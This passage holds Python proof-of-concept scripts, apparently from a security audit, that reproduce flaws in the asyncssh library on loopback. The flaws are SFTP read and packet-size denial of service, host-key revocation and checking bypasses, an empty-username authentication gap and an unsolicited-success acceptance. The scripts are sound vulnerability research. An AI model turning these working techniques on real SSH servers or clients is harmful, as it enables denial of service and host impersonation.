                        'the server event loop is blocked' %
                        (type(exc).__name__,))

    size1 = os.path.getsize(os.path.join(ROOT, 'f'))
    await asyncio.sleep(1)
    size2 = os.path.getsize(os.path.join(ROOT, 'f'))

    if size2 > size1 > size0:
        problems.append('1-byte file keeps growing: %d -> %d -> %d bytes, '
                        'server is still copying' % (size0, size1, size2))

    req.cancel()
    conn.abort()
    return problems


def main():
    if len(sys.argv) > 1 and sys.argv[1] == 'server':
        asyncio.run(server_main())
        return

    shutil.rmtree(ROOT, ignore_errors=True)
    os.makedirs(ROOT)

    if os.path.exists(PORTFILE):
        os.unlink(PORTFILE)

    env = dict(os.environ, PYTHONPATH=HERE)
    child = subprocess.Popen([sys.executable, os.path.abspath(__file__),
                              'server'], env=env)

    try:
        deadline = time.time() + 20
        while not os.path.exists(PORTFILE):
            if time.time() > deadline or child.poll() is not None:
                print('server did not start')
                return 2
            time.sleep(0.05)

        port = int(open(PORTFILE).read())
        problems = asyncio.run(asyncio.wait_for(client_main(port), 60))
    finally:
        child.kill()
        child.wait()
        shutil.rmtree(ROOT, ignore_errors=True)
        if os.path.exists(PORTFILE):
            os.unlink(PORTFILE)

    if problems:
        print('VIOLATION:')
        for p in problems:
            print('  -', p)
        return 1

    print('no violation observed')
    return 0


if __name__ == '__main__':
    sys.exit(main())
