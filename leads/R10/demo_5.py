#!/usr/bin/env python
"""C10 demo 5: the SFTP server does not bound the 'length' field of FXP_READ.

The server tells clients (limits@openssh.com, and the SFTPv5/6 "supported"
blocks) that its maximum read length is MAX_SFTP_READ_LEN = 4 MiB, but
SFTPServerHandler._process_read() hands the 32-bit length from the request
straight to file.read().  One 30-byte request with length 0xffffffff makes
the server allocate a 4 GiB read buffer, read the rest of the file
synchronously inside the event loop and queue all of it as a single reply.

Here the file is a 64 MiB sparse file in a scratch chroot, so the reply is
"only" 64 MiB; with a bigger file it is up to 4 GiB - 1.

Expected (property C10, and the server's own advertisement): the reply to one
small request is bounded, i.e. at most the advertised max_read_len.  Exit 0.
Observed: a single 64 MiB FXP_DATA reply, 16 times the advertised limit.
Exit 1.
"""

import asyncio, os, shutil, sys, time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.join(HERE, 'demo_5_root')
sys.path.insert(0, HERE)
import asyncssh

FILE_SIZE = 64 * 1024 * 1024


async def main():
    shutil.rmtree(ROOT, ignore_errors=True)
    os.makedirs(ROOT)

    with open(os.path.join(ROOT, 'big'), 'wb') as f:
        f.truncate(FILE_SIZE)               # sparse, takes no disk space

    key = asyncssh.generate_private_key('ssh-ed25519')

    class Srv(asyncssh.SSHServer):
        def begin_auth(self, username):
            return False

    srv = await asyncssh.listen(
        '127.0.0.1', 0, server_factory=Srv, server_host_keys=[key],
        sftp_factory=lambda chan: asyncssh.SFTPServer(chan, chroot=ROOT))
    port = srv.sockets[0].getsockname()[1]

    gaps = []

    async def heartbeat():
        last = time.monotonic()
        while True:
            await asyncio.sleep(0.01)
            now = time.monotonic()
            gaps.append(now - last)
            last = now

    hb = asyncio.ensure_future(heartbeat())

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None, username='u',
                         client_keys=None), 10)
    sftp = await asyncio.wait_for(conn.start_sftp_client(), 10)

    advertised = sftp.limits.max_read_len
    print('server advertises max_read_len = %d' % advertised)

    f = await sftp.open('big', 'rb')

    # One raw FXP_READ: handle, offset 0, length 0xffffffff
    data, _ = await asyncio.wait_for(
        sftp._handler.read(f.handle, 0, 0xffffffff), 120)

    hb.cancel()
    conn.abort()
    srv.close()
    shutil.rmtree(ROOT, ignore_errors=True)

    print('one FXP_READ(length=0xffffffff) was answered with %d bytes in a '
          'single reply; longest event loop stall %.2fs' %
          (len(data), max(gaps)))

    if len(data) > advertised:
        print('VIOLATION:')
        print('  - reply to one 30-byte request is %d bytes, %.0fx the '
              'advertised maximum read length' %
              (len(data), len(data) / advertised))
        return 1

    print('no violation observed')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 300)))
    finally:
        shutil.rmtree(ROOT, ignore_errors=True)
