#!/usr/bin/env python
"""C10 demo 2: a peer which announces "maximum packet size" 1 (and a big
window) in CHANNEL_OPEN turns every write on that channel into one
CHANNEL_DATA packet per byte (plus one IGNORE packet each), all emitted
synchronously from inside write().  The event loop is blocked for the whole
time, and the time grows faster than linearly with the amount written.

A server with a trivial handler that answers a request with SIZE bytes in one
write() is started on loopback.  The "hostile" client is a normal asyncssh
client that only passes max_pktsize=1, window=2**31 when opening the session
(these two numbers are the 'maximum packet size' and 'initial window size'
fields of its CHANNEL_OPEN / are taken from the peer in SSHChannel.process_open).

Expected (property C10): cost of the write is proportional to the data, as
with an ordinary peer (the same write takes well under 10 ms with the default
32 KiB maximum packet size), the loop is not monopolised.  Exit 0.
Observed: write() of 48 KiB does not return for many seconds, in which a
concurrent heartbeat task on the server's loop does not get to run once, and
~98000 packets / several MB are put on the wire.  Exit 1.
"""

import asyncio, os, sys, time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import asyncssh

SIZE = 48 * 1024
LIMIT = 1.0         # seconds a single write() may keep the loop busy

result = {}


async def handler(process):
    conn = process.channel.get_connection()
    data = b'x' * SIZE

    sent = {'pkts': 0, 'bytes': 0}
    orig_send = conn._send

    def counting_send(buf):
        sent['pkts'] += 1
        sent['bytes'] += len(buf)
        orig_send(buf)

    conn._send = counting_send

    t0 = time.monotonic()
    process.stdout.write(data)              # a single application write
    result['blocked'] = time.monotonic() - t0
    result.update(sent)
    conn._send = orig_send

    await process.stdout.drain()
    process.exit(0)


async def heartbeat(gaps):
    last = time.monotonic()
    while True:
        await asyncio.sleep(0.05)
        now = time.monotonic()
        gaps.append(now - last)
        last = now


async def run_one(port, **kwargs):
    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None, username='u',
                         client_keys=None), 10)
    proc = await asyncio.wait_for(
        conn.create_process('get', encoding=None, **kwargs), 10)
    out = await asyncio.wait_for(proc.stdout.read(), 300)
    conn.abort()
    assert len(out) == SIZE, len(out)
    return dict(result)


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')

    class Srv(asyncssh.SSHServer):
        def begin_auth(self, username):
            return False

    srv = await asyncssh.listen('127.0.0.1', 0, server_factory=Srv,
                                server_host_keys=[key],
                                process_factory=handler, encoding=None)
    port = srv.sockets[0].getsockname()[1]

    gaps = []
    hb = asyncio.ensure_future(heartbeat(gaps))

    normal = await run_one(port)
    print('ordinary peer (max packet size 32768): write(%d bytes) took '
          '%.4fs, %d packets, %d bytes on the wire' %
          (SIZE, normal['blocked'], normal['pkts'], normal['bytes']))

    del gaps[:]
    hostile = await run_one(port, max_pktsize=1, window=2**31)
    print('peer announcing max packet size 1:     write(%d bytes) took '
          '%.2fs, %d packets, %d bytes on the wire' %
          (SIZE, hostile['blocked'], hostile['pkts'], hostile['bytes']))
    print('longest stall of the event loop seen by a heartbeat task: %.2fs' %
          max(gaps))

    hb.cancel()
    srv.close()

    problems = []

    if hostile['blocked'] > LIMIT:
        problems.append('one write() of %d bytes kept the event loop busy '
                        'for %.2fs (%.0fx the ordinary peer)' %
                        (SIZE, hostile['blocked'],
                         hostile['blocked'] / max(normal['blocked'], 1e-6)))

    if hostile['bytes'] > 10 * SIZE:
        problems.append('%d bytes of payload became %d packets / %d bytes '
                        'of output (%.0fx)' %
                        (SIZE, hostile['pkts'], hostile['bytes'],
                         hostile['bytes'] / SIZE))

    if problems:
        print('VIOLATION:')
        for p in problems:
            print('  -', p)
        return 1

    print('no violation observed')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(asyncio.wait_for(main(), 600)))
