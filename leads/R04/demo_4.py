"""C04 demo 4: CIDR entries are evaded by the IPv4-mapped form of the address

known_hosts:   * K
               @revoked 127.0.0.0/8 K
Connecting to 127.0.0.1 is refused (key revoked for that network), connecting
to the very same IPv4 address written ::ffff:127.0.0.1 is accepted, because
CIDRHostPattern tests an IPv6Address against an IPv4Network. The same happens
with a negated network ("*,!127.0.0.0/8 K").
"""

import asyncio
import os
import sys

import asyncssh

HERE = os.path.dirname(os.path.abspath(__file__))


class RecordingServer(asyncssh.SSHServer):
    """Loopback server which records every credential a client sends"""

    seen = []

    def begin_auth(self, username):
        RecordingServer.seen.append(('username', username))
        return True

    def password_auth_supported(self):
        return True

    def validate_password(self, username, password):
        RecordingServer.seen.append(('password', password))
        return True


def pub(key):
    return key.export_public_key().decode().strip()


async def start_server(host_key, host_cert=None):
    keys = [(host_key, host_cert)] if host_cert is not None else [host_key]
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=keys,
                                   server_factory=RecordingServer)
    return server, server.sockets[0].getsockname()[1]


async def attempt(host, port, **kwargs):
    """Connect as a client; return (outcome, detail, credentials seen)"""

    RecordingServer.seen = []

    kwargs.setdefault('config', [])
    kwargs.setdefault('username', 'user')
    kwargs.setdefault('password', 'secret-password')
    kwargs.setdefault('client_keys', None)
    kwargs.setdefault('x509_trusted_certs', None)

    try:
        conn = await asyncio.wait_for(asyncssh.connect(host, port, **kwargs),
                                      15)
    except asyncssh.HostKeyNotVerifiable as exc:
        return 'host-key-error', str(exc), list(RecordingServer.seen)
    except (asyncssh.Error, OSError) as exc:
        return 'other-error', f'{type(exc).__name__}: {exc}', \
            list(RecordingServer.seen)

    conn.abort()
    await asyncio.wait_for(conn.wait_closed(), 15)
    return 'connected', '', list(RecordingServer.seen)


def main(coro):
    try:
        problems = asyncio.run(asyncio.wait_for(coro, 90))
    except asyncio.TimeoutError:
        print('FAIL: demo hung')
        sys.exit(2)

    if problems:
        for problem in problems:
            print('VIOLATION:', problem)
        sys.exit(1)

    print('OK: behaved as the property says')
    sys.exit(0)


async def demo():
    problems = []

    k = asyncssh.generate_private_key('ssh-ed25519')
    server, port = await start_server(k)

    revoked = f'* {pub(k)}\n@revoked 127.0.0.0/8 {pub(k)}\n'.encode()
    negated = f'*,!127.0.0.0/8 {pub(k)}\n'.encode()

    for title, known_hosts in (('@revoked', revoked), ('negated', negated)):
        result = await attempt('127.0.0.1', port, known_hosts=known_hosts)
        print(f'{title:8} 127.0.0.1       :', result)

        if result[0] != 'host-key-error':
            problems.append(f'control: {title} network entry did not refuse '
                            f'127.0.0.1: {result}')

        result = await attempt('::ffff:127.0.0.1', port,
                               known_hosts=known_hosts)
        print(f'{title:8} ::ffff:127.0.0.1:', result)

        if result[0] == 'connected' or result[2]:
            problems.append(f'{title} entry for 127.0.0.0/8 does not apply '
                            'to the same address written ::ffff:127.0.0.1; '
                            f'credentials the server received: {result[2]}')

    server.close()
    await server.wait_closed()
    return problems


main(demo())
