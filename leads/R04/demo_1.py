"""C04 demo 1: a revoked host key is accepted when it arrives in a certificate

known_hosts:   @cert-authority * CA
               @revoked * K
The server holds K and presents an OpenSSH host certificate for K signed by
CA. K is revoked, so the connection must fail with a host key error before
the password is sent. _validate_openssh_host_certificate() only compares the
CA key with the revoked list, never the certified key.
"""

import asyncio
import os
import sys

import asyncssh

HERE = os.path.dirname(os.path.abspath(__file__))


class RecordingServer(asyncssh.SSHServer):
    """Loopback server which records every credential a client sends"""

    seen = []

    def begin_auth(self, username):
        RecordingServer.seen.append(('username', username))
        return True

    def password_auth_supported(self):
        return True

    def validate_password(self, username, password):
        RecordingServer.seen.append(('password', password))
        return True


def pub(key):
    return key.export_public_key().decode().strip()


async def start_server(host_key, host_cert=None):
    keys = [(host_key, host_cert)] if host_cert is not None else [host_key]
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=keys,
                                   server_factory=RecordingServer)
    return server, server.sockets[0].getsockname()[1]


async def attempt(host, port, **kwargs):
    """Connect as a client; return (outcome, detail, credentials seen)"""

    RecordingServer.seen = []

    kwargs.setdefault('config', [])
    kwargs.setdefault('username', 'user')
    kwargs.setdefault('password', 'secret-password')
    kwargs.setdefault('client_keys', None)
    kwargs.setdefault('x509_trusted_certs', None)

    try:
        conn = await asyncio.wait_for(asyncssh.connect(host, port, **kwargs),
                                      15)
    except asyncssh.HostKeyNotVerifiable as exc:
        return 'host-key-error', str(exc), list(RecordingServer.seen)
    except (asyncssh.Error, OSError) as exc:
        return 'other-error', f'{type(exc).__name__}: {exc}', \
            list(RecordingServer.seen)

    conn.abort()
    await asyncio.wait_for(conn.wait_closed(), 15)
    return 'connected', '', list(RecordingServer.seen)


def main(coro):
    try:
        problems = asyncio.run(asyncio.wait_for(coro, 90))
    except asyncio.TimeoutError:
        print('FAIL: demo hung')
        sys.exit(2)

    if problems:
        for problem in problems:
            print('VIOLATION:', problem)
        sys.exit(1)

    print('OK: behaved as the property says')
    sys.exit(0)


async def demo():
    problems = []

    ca = asyncssh.generate_private_key('ssh-ed25519')
    k = asyncssh.generate_private_key('ssh-ed25519')
    cert = ca.generate_host_certificate(k, 'demo', principals=['localhost'])

    known_hosts = (f'@cert-authority * {pub(ca)}\n'
                   f'@revoked * {pub(k)}\n').encode()

    # Control: the revoked key presented as a plain key is refused
    server, port = await start_server(k)
    result = await attempt('localhost', port, known_hosts=known_hosts,
                           server_host_key_algs=['ssh-ed25519'])
    server.close()
    await server.wait_closed()
    print('revoked K as plain key  :', result)

    if result[0] != 'host-key-error':
        problems.append(f'control: revoked plain key not refused: {result}')

    # The same revoked key, certified by the trusted CA
    server, port = await start_server(k, cert)
    result = await attempt('localhost', port, known_hosts=known_hosts)
    server.close()
    await server.wait_closed()
    print('revoked K in certificate:', result)

    if result[0] == 'connected' or result[2]:
        problems.append('server holding the @revoked key K was accepted '
                        'because K came inside a certificate; credentials '
                        f'the server received: {result[2]}')

    return problems


main(demo())
