"""C04 demo 3: "UserKnownHostsFile none" switches host key checking off,
even though GlobalKnownHostsFile lists the key of the host

Config:   UserKnownHostsFile none
          GlobalKnownHostsFile <file listing key A for localhost>
The server holds key B. The trust configuration accepts only A for this host,
so the connection must fail. SSHClientConnectionOptions.prepare() turns the
empty UserKnownHostsFile list into known_hosts=None (= no validation at all)
and never looks at GlobalKnownHostsFile.
"""

import asyncio
import os
import sys

import asyncssh

HERE = os.path.dirname(os.path.abspath(__file__))


class RecordingServer(asyncssh.SSHServer):
    """Loopback server which records every credential a client sends"""

    seen = []

    def begin_auth(self, username):
        RecordingServer.seen.append(('username', username))
        return True

    def password_auth_supported(self):
        return True

    def validate_password(self, username, password):
        RecordingServer.seen.append(('password', password))
        return True


def pub(key):
    return key.export_public_key().decode().strip()


async def start_server(host_key, host_cert=None):
    keys = [(host_key, host_cert)] if host_cert is not None else [host_key]
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=keys,
                                   server_factory=RecordingServer)
    return server, server.sockets[0].getsockname()[1]


async def attempt(host, port, **kwargs):
    """Connect as a client; return (outcome, detail, credentials seen)"""

    RecordingServer.seen = []

    kwargs.setdefault('config', [])
    kwargs.setdefault('username', 'user')
    kwargs.setdefault('password', 'secret-password')
    kwargs.setdefault('client_keys', None)
    kwargs.setdefault('x509_trusted_certs', None)

    try:
        conn = await asyncio.wait_for(asyncssh.connect(host, port, **kwargs),
                                      15)
    except asyncssh.HostKeyNotVerifiable as exc:
        return 'host-key-error', str(exc), list(RecordingServer.seen)
    except (asyncssh.Error, OSError) as exc:
        return 'other-error', f'{type(exc).__name__}: {exc}', \
            list(RecordingServer.seen)

    conn.abort()
    await asyncio.wait_for(conn.wait_closed(), 15)
    return 'connected', '', list(RecordingServer.seen)


def main(coro):
    try:
        problems = asyncio.run(asyncio.wait_for(coro, 90))
    except asyncio.TimeoutError:
        print('FAIL: demo hung')
        sys.exit(2)

    if problems:
        for problem in problems:
            print('VIOLATION:', problem)
        sys.exit(1)

    print('OK: behaved as the property says')
    sys.exit(0)


async def demo():
    problems = []

    key_a = asyncssh.generate_private_key('ssh-ed25519')
    key_b = asyncssh.generate_private_key('ssh-ed25519')

    server, port = await start_server(key_b)

    global_file = os.path.join(HERE, 'demo_3_global_known_hosts')
    config_ok = os.path.join(HERE, 'demo_3_config_control')
    config_none = os.path.join(HERE, 'demo_3_config_none')

    with open(global_file, 'w') as f:
        f.write(f'localhost,[localhost]:{port} {pub(key_a)}\n')

    with open(config_ok, 'w') as f:
        f.write(f'GlobalKnownHostsFile {global_file}\n')

    with open(config_none, 'w') as f:
        f.write('UserKnownHostsFile none\n'
                f'GlobalKnownHostsFile {global_file}\n')

    # Control: only the global file -> wrong key is refused
    result = await attempt('localhost', port, config=[config_ok])
    print('GlobalKnownHostsFile only               :', result)

    if result[0] != 'host-key-error':
        problems.append(f'control: wrong key not refused: {result}')

    result = await attempt('localhost', port, config=[config_none])
    print('UserKnownHostsFile none + global file   :', result)

    if result[0] == 'connected' or result[2]:
        problems.append('server with a key which is in no known hosts file '
                        'was accepted (GlobalKnownHostsFile ignored, checking '
                        f'disabled); credentials it received: {result[2]}')

    server.close()
    await server.wait_closed()

    for name in (global_file, config_ok, config_none):
        os.unlink(name)

    return problems


main(demo())
