"""C05 (converse half): a client presenting a valid local key is admitted.

Expected by the property: a client which holds a private key the server has
authorized is admitted, for every schedule and configuration.

Observed: the signature algorithm (and with it the algorithm name put into
the request) negotiated for one connection is stored on the SSHKeyPair
object, and that object is shared by connections which are open at the same
time.  When a second connection negotiates a different algorithm between the
first connection's key query and the server's answer to it, the first
connection aborts with ProtocolError('Key mismatch') (with other timing it
sends a signed request naming, and signed with, the algorithm chosen for the
*other* server).  The key is authorized on both servers and each connection
on its own is admitted.  Shown for

  A. a reverse-direction listener (asyncssh.listen_reverse(client_keys=[key])):
     all connections accepted by the listener use the key pairs of the one
     options object -- exactly the situation which "fix: record the negotiated
     host key signature algorithm per connection" (c142fe2) repaired for the
     host keys of a server listener;
  B. key pairs loaded once with the public load_keypairs() function (the same
     holds for SSHAgentClient.get_keys()) and given as client_keys to several
     asyncssh.connect() calls.

The two servers announce different server-sig-algs (rsa-sha2-256 only and
rsa-sha2-512 only), as a mixed fleet of servers does; the first one takes
half a second to look the key up.

Responsible code:
  asyncssh/connection.py SSHClientConnection.__init__
        self._client_keys = list(options.client_keys)   (shallow copy)
  asyncssh/connection.py SSHClientConnection._choose_signature_alg
        keypair.set_sig_algorithm(alg)                   (mutates shared object)
  asyncssh/connection.py SSHClientConnection.public_key_auth_requested /
        host_based_auth_requested  (also rewrite key.algorithm for RSA certs)
  asyncssh/public_key.py SSHKeyPair.set_sig_algorithm, agent.py
        SSHAgentKeyPair.set_sig_algorithm (self._flags |= ... never cleared)
  asyncssh/auth.py _ClientPublicKeyAuth._start / _process_public_key_ok /
        _send_signed_request read keypair.algorithm and keypair.sig_algorithm
        again a round trip (or an agent call) later.
"""

import asyncio
import sys

import asyncssh


class SlowServer(asyncssh.SSHServer):
    """Accepts the given key; may take a moment to look a key up"""

    delay = 0.0
    authorized = None

    def begin_auth(self, username):
        return True

    def public_key_auth_supported(self):
        return True

    async def validate_public_key(self, username, key):
        await asyncio.sleep(self.delay)
        return key == self.authorized


def server_factory(authorized, delay):
    def factory():
        server = SlowServer()
        server.delay = delay
        server.authorized = authorized
        return server

    return factory


CLIENT_ARGS = dict(username='alice', known_hosts=None, agent_path=None,
                   password_auth=False, kbdint_auth=False,
                   host_based_auth=False, gss_auth=False, gss_kex=False)


async def part_a(host_key, user_key):
    """Reverse-direction listener: servers connect to the client"""

    client_errors = []

    listener = await asyncssh.listen_reverse(
        '127.0.0.1', 0, client_keys=[user_key],
        error_handler=lambda conn, exc: client_errors.append(exc),
        **CLIENT_ARGS)
    port = listener.get_port()

    pub = user_key.convert_to_public()

    async def server(alg, delay):
        try:
            conn = await asyncio.wait_for(
                asyncssh.connect_reverse(
                    '127.0.0.1', port, server_host_keys=[host_key],
                    server_factory=server_factory(pub, delay),
                    signature_algs=[alg]), 20)
        except Exception as exc: # pylint: disable=broad-except
            return exc
        else:
            user = conn.get_extra_info('username')
            conn.close()
            await conn.wait_closed()
            return f'admitted as {user}'

    ctl_1 = await server('rsa-sha2-256', 0.5)
    ctl_2 = await server('rsa-sha2-512', 0.0)
    print('A control, server 1 alone      :', repr(ctl_1))
    print('A control, server 2 alone      :', repr(ctl_2))

    task_1 = asyncio.ensure_future(server('rsa-sha2-256', 0.5))
    await asyncio.sleep(0.2)
    task_2 = asyncio.ensure_future(server('rsa-sha2-512', 0.0))

    res_1 = await task_1
    res_2 = await task_2
    print('A both at once, server 1 sees  :', repr(res_1))
    print('A both at once, server 2 sees  :', repr(res_2))
    print('A errors reported to the client:',
          [exc for exc in client_errors if exc])

    listener.close()

    controls = isinstance(ctl_1, str) and isinstance(ctl_2, str)
    return controls, isinstance(res_1, str) and isinstance(res_2, str)


async def part_b(host_key, user_key):
    """Ordinary direction, key pairs loaded once by the application"""

    pub = user_key.convert_to_public()

    async def listen(alg, delay):
        return await asyncssh.listen(
            '127.0.0.1', 0, server_host_keys=[host_key],
            server_factory=server_factory(pub, delay), signature_algs=[alg])

    srv_1 = await listen('rsa-sha2-256', 0.5)
    srv_2 = await listen('rsa-sha2-512', 0.0)
    port_1 = srv_1.sockets[0].getsockname()[1]
    port_2 = srv_2.sockets[0].getsockname()[1]

    async def connect(port, keypairs):
        try:
            conn = await asyncio.wait_for(
                asyncssh.connect('127.0.0.1', port, client_keys=keypairs,
                                 **CLIENT_ARGS), 20)
        except Exception as exc: # pylint: disable=broad-except
            return exc
        else:
            user = conn.get_extra_info('username')
            conn.close()
            await conn.wait_closed()
            return f'admitted as {user}'

    ctl_1 = await connect(port_1, asyncssh.load_keypairs([user_key]))
    ctl_2 = await connect(port_2, asyncssh.load_keypairs([user_key]))
    print('B control, server 1 alone      :', repr(ctl_1))
    print('B control, server 2 alone      :', repr(ctl_2))

    keypairs = asyncssh.load_keypairs([user_key])

    task_1 = asyncio.ensure_future(connect(port_1, keypairs))
    await asyncio.sleep(0.2)
    task_2 = asyncio.ensure_future(connect(port_2, keypairs))

    res_1 = await task_1
    res_2 = await task_2
    print('B both at once, connection 1   :', repr(res_1))
    print('B both at once, connection 2   :', repr(res_2))

    srv_1.close()
    srv_2.close()

    controls = isinstance(ctl_1, str) and isinstance(ctl_2, str)
    return controls, isinstance(res_1, str) and isinstance(res_2, str)


async def main():
    host_key = asyncssh.generate_private_key('ssh-ed25519')
    user_key = asyncssh.generate_private_key('ssh-rsa', key_size=2048)

    ctl_a, ok_a = await part_a(host_key, user_key)
    ctl_b, ok_b = await part_b(host_key, user_key)

    if not (ctl_a and ctl_b):
        print('controls failed - demo not applicable')
        return 0

    if not (ok_a and ok_b):
        print('MISBEHAVIOUR: a valid key was not admitted because another '
              'connection changed the shared key pair in between '
              f'(reverse listener ok={ok_a}, preloaded key pairs ok={ok_b})')
        return 1

    print('all connections admitted')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
