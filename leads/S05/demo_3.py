"""C05: access is granted exactly when a credential check for U succeeded --
for every user name a client may put into a USERAUTH_REQUEST.

Expected by the property / documentation: "begin_auth() will be called when
authentication is attempted for the specified user.  Applications should use
this method to prepare whatever state they need to complete the
authentication" -- it is the place where an application decides whether a
user exists, whether he needs to authenticate at all and which keys are his,
and where the library itself re-evaluates the per-user configuration
(reload_config(): Match User blocks, AuthorizedKeysFile %u, the
*_auth options).  The first request of a connection always names a "new" user,
so begin_auth() has to run for it whatever the name is.

Observed: when the first USERAUTH_REQUEST names the empty user name "", the
server neither calls begin_auth() nor reload_config(): it goes straight to the
credential check with whatever state the connection was created with, and on
success reports auth_completed() for user "".  Below, an application which
only lets the accounts it knows get past begin_auth() (everybody else is
disconnected there), and which trusts one deployment key for those accounts,
is entered under the name "" by the holder of that key; under any other
unknown name the same client is refused.

Responsible code: asyncssh/connection.py
  SSHConnection.__init__                    self._username = ''
  SSHConnection._process_userauth_request   `if username != self._username:`
        decides whether this is a new user -> False for "" on a fresh
        connection, so _finish_userauth(begin_auth=False, ...) skips
        reload_config() and SSHServer.begin_auth().
"""

import asyncio
import sys

import asyncssh


ACCOUNTS = {'deploy', 'backup'}

calls = []


class Server(asyncssh.SSHServer):
    """Knows two accounts; refuses everybody else in begin_auth()"""

    def connection_made(self, conn):
        self._conn = conn

    def begin_auth(self, username):
        calls.append(('begin_auth', username))

        if username not in ACCOUNTS:
            raise asyncssh.PermissionDenied(f'No such account: {username}')

        return True

    def auth_completed(self):
        calls.append(('auth_completed',
                      self._conn.get_extra_info('username')))


def handle_process(process):
    process.stdout.write('welcome\n')
    process.exit(0)


async def attempt(port, username, key):
    calls.clear()

    try:
        async with asyncssh.connect('127.0.0.1', port, username=username,
                                    client_keys=[key], known_hosts=None,
                                    agent_path=None, password_auth=False,
                                    kbdint_auth=False) as conn:
            result = await asyncio.wait_for(conn.run('x'), 10)
            outcome = f'admitted, session says {result.stdout.strip()!r}'
            admitted = True
    except (asyncssh.Error, OSError) as exc:
        outcome = f'refused: {exc!r}'
        admitted = False

    print(f'  user {username!r:10} -> {outcome}')
    print(f'  {"":15} server callbacks: {calls}')

    return admitted, list(calls)


async def main():
    host_key = asyncssh.generate_private_key('ssh-ed25519')
    deploy_key = asyncssh.generate_private_key('ssh-ed25519')

    authorized = asyncssh.import_authorized_keys(
        deploy_key.export_public_key().decode())

    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[host_key],
                                   authorized_client_keys=authorized,
                                   process_factory=handle_process)
    port = server.sockets[0].getsockname()[1]

    known_ok, _ = await attempt(port, 'deploy', deploy_key)
    other_ok, _ = await attempt(port, 'mallory', deploy_key)
    empty_ok, empty_calls = await attempt(port, '', deploy_key)

    server.close()

    if not known_ok or other_ok:
        print('controls failed - demo not applicable')
        return 0

    began = any(call[0] == 'begin_auth' for call in empty_calls)

    if empty_ok and not began:
        print('MISBEHAVIOUR: user "" was authenticated although begin_auth() '
              'was never called for this connection')
        return 1

    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
