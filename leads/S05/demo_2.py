"""C05: once the server has decided a user is admitted, the connection accepts
channel opens and global requests.

Expected by the property: a connection which the server authenticated -- here
through SSHServer.begin_auth() returning False, the documented way of saying
"no authentication is required for this user" -- accepts channel opens and
global requests from then on.  SSHServer.auth_completed() is documented as a
method which may be a coroutine and in which the application prepares the
connection "before any sessions are opened or forwarding requests are
handled"; with a user who has to present a password exactly the same
application code works.

Observed: for the user who needs no authentication, USERAUTH_SUCCESS goes out
but nothing the client sends afterwards is ever looked at if auth_completed()
waits for an answer of the client (here: it opens a forwarded connection back
to the client, which the client refuses at once).  The client's reply, its
session open and everything else stay in the input buffer, auth_completed()
never returns, and as the login timer has been cancelled the connection hangs
for good.

Responsible code: asyncssh/connection.py
  SSHConnection._process_userauth_request  returns _finish_userauth() as the
      awaitable of the packet, so _recv_packet() stops reading packets until
      it is done (introduced by "fix: process pipelined user auth requests one
      at a time and abandon the previous attempt", 8fbdaca)
  SSHConnection._finish_userauth           `await self.send_userauth_success()`
  SSHConnection.send_userauth_success      `await self._owner.auth_completed()`
  So the application's auth_completed() runs inside the packet task while the
  receive path is parked.  With a credential, send_userauth_success() runs in
  the auth handler's own task and reading goes on.  Before 8fbdaca the no-auth
  path ran in a task of its own as well and this program printed "ok" twice.
"""

import asyncio
import sys

import asyncssh


class Server(asyncssh.SSHServer):
    """alice needs a password, guest needs no authentication"""

    def connection_made(self, conn):
        self._conn = conn

    def begin_auth(self, username):
        return username != 'guest'

    def password_auth_supported(self):
        return True

    def validate_password(self, username, password):
        return (username, password) == ('alice', 'secret')

    async def auth_completed(self):
        # Something which needs one round trip to the client: try to open a
        # forwarded connection.  This client has no such listener and
        # refuses immediately, which is fine for this server.
        try:
            await self._conn.create_connection(asyncssh.SSHTCPSession,
                                               'status.invalid', 9)
        except asyncssh.ChannelOpenError as exc:
            print(f'    server: client answered: {exc.reason}')


def handle_process(process):
    process.stdout.write('hello\n')
    process.exit(0)


async def attempt(port, username):
    try:
        async with asyncssh.connect('127.0.0.1', port, username=username,
                                    password='secret', known_hosts=None,
                                    client_keys=None,
                                    agent_path=None) as conn:
            print(f'    client: authenticated as '
                  f'{conn.get_extra_info("username")}')
            result = await asyncio.wait_for(conn.run('anything'), 8)
            return result.stdout.strip() == 'hello'
    except asyncio.TimeoutError:
        print('    client: session open got no answer within 8 seconds')
        return False


async def main():
    host_key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[host_key],
                                   process_factory=handle_process)
    port = server.sockets[0].getsockname()[1]

    print('alice (password required):')
    alice_ok = await attempt(port, 'alice')
    print('   ', 'ok' if alice_ok else 'FAILED')

    print('guest (begin_auth() returns False):')
    guest_ok = await attempt(port, 'guest')
    print('   ', 'ok' if guest_ok else 'FAILED')

    server.close()

    if not alice_ok:
        print('control failed - demo not applicable')
        return 0

    if not guest_ok:
        print('MISBEHAVIOUR: the authenticated connection of a user needing '
              'no credential never processes a channel open')
        return 1

    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
