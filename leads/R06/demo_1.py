#!/venv/bin/python
"""C06 demo 1: the client accepts USERAUTH_SUCCESS although no request of its
own is outstanding -- the server answers the client's public key *query*
(USERAUTH_REQUEST publickey, sig_present=False) with USERAUTH_PK_OK and then,
without waiting for the signed request, USERAUTH_SUCCESS.

The query was answered by PK_OK, the signed request has not been sent (it has
not even been signed), so nothing of the client's is outstanding.  A correct
client ends the connection ('Unexpected userauth success response').

The server side is an asyncssh server which is hand-driven: its send_packet
is wrapped so that a USERAUTH_SUCCESS is put on the wire right behind PK_OK.

exit 0: the client refused the SUCCESS; exit 1: the client reports the
connection as authenticated without ever having produced a signature.
"""

import asyncio
import sys

import asyncssh
from asyncssh.constants import MSG_USERAUTH_SUCCESS
from asyncssh.auth import MSG_USERAUTH_PK_OK

